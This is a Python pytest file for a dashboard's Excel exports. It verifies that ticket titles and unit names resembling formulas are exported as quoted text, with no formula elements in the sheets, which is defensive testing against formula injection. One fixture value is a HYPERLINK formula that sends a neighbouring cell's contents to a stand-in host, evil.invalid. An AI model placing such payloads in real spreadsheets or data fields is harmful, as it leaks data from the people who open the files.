"""Excel exports write formula-like text as text (formula injection; every cell of every export)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.bootstrap import Container
from gateway.store.db import transaction
from gateway.store.tables import TicketRecord
from tests.integration.dashboard_support import Browser, build_container
from tests.integration.dashboard_support import cheap_hashes as cheap_hashes
from tests.integration.test_reports import NOW, B, load

HOSTILE_TITLE = '=HYPERLINK("http://evil.invalid/?leak="&B2,"点击查看")'
HOSTILE_UNIT = "@东城派出所"
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def container(db_url: str, make_settings: Callable[..., Any], tmp_path: Path) -> Iterator[Container]:
    for c in build_container(db_url, make_settings, tmp_path):
        c.clock = lambda: NOW
        load(c)
        with transaction(c.sessions) as s:  # a platform-supplied title and a unit name that look like formulas
            for ticket in s.scalars(select(TicketRecord)):
                if ticket.external_id == "T6":
                    ticket.title = HOSTILE_TITLE
                if ticket.unit == B:
                    ticket.unit = HOSTILE_UNIT
        yield c


def formula_like_cells(content: bytes) -> list[tuple[str, Any, str, bool]]:
    book = load_workbook(io.BytesIO(content))
    return [(sheet.title, cell.value, cell.data_type, bool(cell.quotePrefix))
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str) and cell.value.startswith(STARTS)]


def assert_all_text(content: bytes, expected: set[str]) -> None:
    cells = formula_like_cells(content)
    assert expected <= {value for _, value, _, _ in cells}  # the values are kept as they were written
    assert all(kind == "s" and quoted for _, _, kind, quoted in cells), cells
    with zipfile.ZipFile(io.BytesIO(content)) as archive:  # no formula element anywhere in the file
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)


def test_the_bulletin_export_writes_a_hyperlink_title_and_an_at_unit_as_text(container: Container) -> None:
    browser = Browser(container)
    browser.login("duty")
    response = browser.get("/dashboard/bulletin/export.xlsx?kind=month&day=2026-11-15")
    assert response.status_code == 200
    assert_all_text(response.content, {HOSTILE_TITLE, HOSTILE_UNIT})


def test_the_report_export_writes_formula_like_unit_names_as_text(container: Container) -> None:
    browser = Browser(container)
    browser.login("duty")
    response = browser.get("/dashboard/reports/export.xlsx?start=2026-11-01&end=2026-11-30")
    assert response.status_code == 200
    assert_all_text(response.content, {HOSTILE_UNIT})
